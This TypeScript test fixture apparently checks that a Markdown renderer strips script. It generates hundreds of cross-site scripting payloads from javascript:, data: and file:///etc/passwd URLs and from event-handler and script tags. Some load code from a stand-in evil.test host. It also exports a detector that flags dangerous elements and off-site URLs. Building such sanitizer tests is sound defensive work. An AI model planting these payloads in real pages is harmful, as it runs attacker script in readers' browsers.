/** More than 500 Markdown texts that try to run code in the reader's browser: dangerous URLs and HTML in all Markdown constructs. */

const urls = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  ' javascript:alert(1)',
  '\u0001javascript:alert(1)',
  'javascript&colon;alert(1)',
  '&#106;avascript:alert(1)',
  '&#x6A;avascript&#58;alert(1)',
  'javascript://%0aalert(1)',
  'javascript:alert`1`//https://sloy.test',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD4=',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'blob:https://sloy.test/1',
  'filesystem:https://sloy.test/1',
  'file:///etc/passwd',
  'about:blank#"onmouseover="alert(1)',
  '//evil.test/x',
  '\\\\evil.test\\x',
  '/\\evil.test/x',
  'http:javascript:alert(1)',
] as const;

/** Markdown constructs that contain a URL. */
const constructs: readonly ((url: string) => string)[] = [
  (url) => `[текст](${url})`,
  (url) => `[текст](<${url}>)`,
  (url) => `[текст](${url} "title')\\" onclick=alert(1)")`,
  (url) => `<${url}>`,
  (url) => `[текст][а]\n\n[а]: ${url}`,
  (url) => `[текст][б]\n\n[б]: <${url}> "onerror=alert(1)"`,
  (url) => `![снимка](${url})`,
  (url) => `![снимка](<${url}>)`,
  (url) => `[![снимка](${url})](${url})`,
  (url) => `# [текст](${url})`,
  (url) => `> - **[текст](${url})**`,
  (url) => `1. *![x](${url})*`,
  (url) => `<a href="${url}">x</a>`,
  (url) => `<img src="${url}">`,
  (url) => `<iframe src='${url}'></iframe>`,
  (url) => `<form action="${url}"><button>x</button></form>`,
  (url) => `| а |\n|---|\n| [x](${url}) |`,
];

const html = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.test/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img/src="x"/onerror=alert(1)//',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<object data="data:text/html,<script>alert(1)</script>">',
  '<embed src="javascript:alert(1)">',
  '<style>@import"javascript:alert(1)"</style>',
  '<link rel=stylesheet href="javascript:alert(1)">',
  '<base href="//evil.test/">',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<input autofocus onfocus=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
] as const;

/** Markdown constructs that contain HTML. */
const places: readonly ((code: string) => string)[] = [
  (code) => code,
  (code) => `Преди\n\n${code}\n\nСлед`,
  (code) => `текст ${code} текст`,
  (code) => `# ${code}`,
  (code) => `> ${code}`,
  (code) => `- ${code}`,
  (code) => `\`\`\`\n${code}\n\`\`\`\n${code}`,
  (code) => `[${code}](https://sloy.test)`,
  (code) => `![${code}](https://sloy.test/x.png)`,
];

export const markdownAttacks: readonly string[] = [
  ...new Set([
    ...constructs.flatMap((construct) => urls.map(construct)),
    ...places.flatMap((place) => html.map(place)),
  ]),
];

/** All attacks combined into a few long texts. */
export const attackArticles: readonly string[] = Array.from(
  { length: Math.ceil(markdownAttacks.length / 60) },
  (_, n) => markdownAttacks.slice(n * 60, (n + 1) * 60).join('\n\n'),
);

/** Elements and attributes that no author's text may produce. */
export const dangerousSelector =
  'script, iframe, object, embed, link, base, meta, style, math, form, template, video, details, [srcdoc], [onerror], [onload], [onclick], [onmouseover], [onfocus], [ontoggle], [onbegin]';

/** URLs below `root` that a browser would run, or load from an unexpected scheme or host. */
export function dangerousUrls(root: Element): string[] {
  const attributes = ['href', 'src', 'action', 'xlink:href', 'data', 'poster'];
  return [...root.querySelectorAll('*')].flatMap((element) =>
    attributes.flatMap((name) => {
      const value = element.getAttribute(name);
      return value === null || /^(https:\/\/sloy\.test|\/(?![/\\])|#|\?)/.test(value)
        ? []
        : [`${element.tagName} ${value}`];
    }),
  );
}
